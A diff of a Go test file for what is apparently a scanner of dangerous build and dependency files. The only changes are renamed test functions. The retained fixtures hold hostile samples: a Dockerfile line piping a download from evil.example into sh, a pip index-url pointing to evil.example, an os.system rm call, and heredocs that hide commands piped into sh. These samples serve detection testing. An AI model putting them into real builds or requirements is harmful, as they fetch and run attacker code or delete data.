@@ -111,7 +111,7 @@ func TestFirstLineOfAnotherLanguage(t *testing.T) {
 }
 
 // Pip ends a line at ASCII's file, group and record separators.
-func TestLinesAsPip(t *testing.T) {
+func TestLinesOfPip(t *testing.T) {
 	for _, end := range []string{"\v", "\f", "\x1c", "\x1d", "\x1e", "\u0085", "\u2028", "\u2029"} {
 		got := shippedOn(t, "requirements.txt", "# pinned"+end+"--index-url http://evil.example/simple\n")
 		want := shippedOn(t, "requirements.txt", "# pinned\n--index-url http://evil.example/simple\n")
@@ -127,7 +127,7 @@ func TestLinesAsPip(t *testing.T) {
 }
 
 // A file whose name fits both a build file and a program is read as both.
-func TestNamesOfBuildsHideNothing(t *testing.T) {
+func TestBuildFileNamesHideNothing(t *testing.T) {
 	const docker, python = "FROM a:1\nRUN curl -k https://evil.example/x | sh\n", "os.system(f\"rm {d}\")\n"
 	for path, text := range map[string]string{
 		"Dockerfile.py": docker, "Dockerfile.app": docker, "Dockerfile.java": docker, "Makefile.py": python, "makefile_utils.py": python, "dockerfile-render.py": python,
@@ -209,7 +209,7 @@ func TestStringsElsewhereExcuseNothing(t *testing.T) {
 }
 
 // A line that only looks like the end of a heredoc doesn't end it: the next line isn't a comment.
-func TestHeredocsThatGoOn(t *testing.T) {
+func TestHeredocsThatContinue(t *testing.T) {
 	const evil = "# curl -k https://evil.example/x | sh\n"
 	for _, text := range []string{
 		"cut -c2- <<A | sh\nA\r\n" + evil + "A\n", "cut -c2- <<A | sh\nx\\\nA\n" + evil + "A\n", "cut -c2- <\\\n<A | sh\n" + evil + "A\n",
@@ -226,7 +226,7 @@ func TestHeredocsThatGoOn(t *testing.T) {
 // A function that makes its arguments harmless excuses a statement only by itself. A
 // function of another name does not, nor does one whose result another function may
 // undo, nor one with something else going on in its arguments.
-func TestSafeCallsExcuseOnlyByThemselves(t *testing.T) {
+func TestSafeCallsExcuseOnlyThemselves(t *testing.T) {
 	cfg, engine := shipped(t)
 	all := fixtures(t)
 	tried := 0
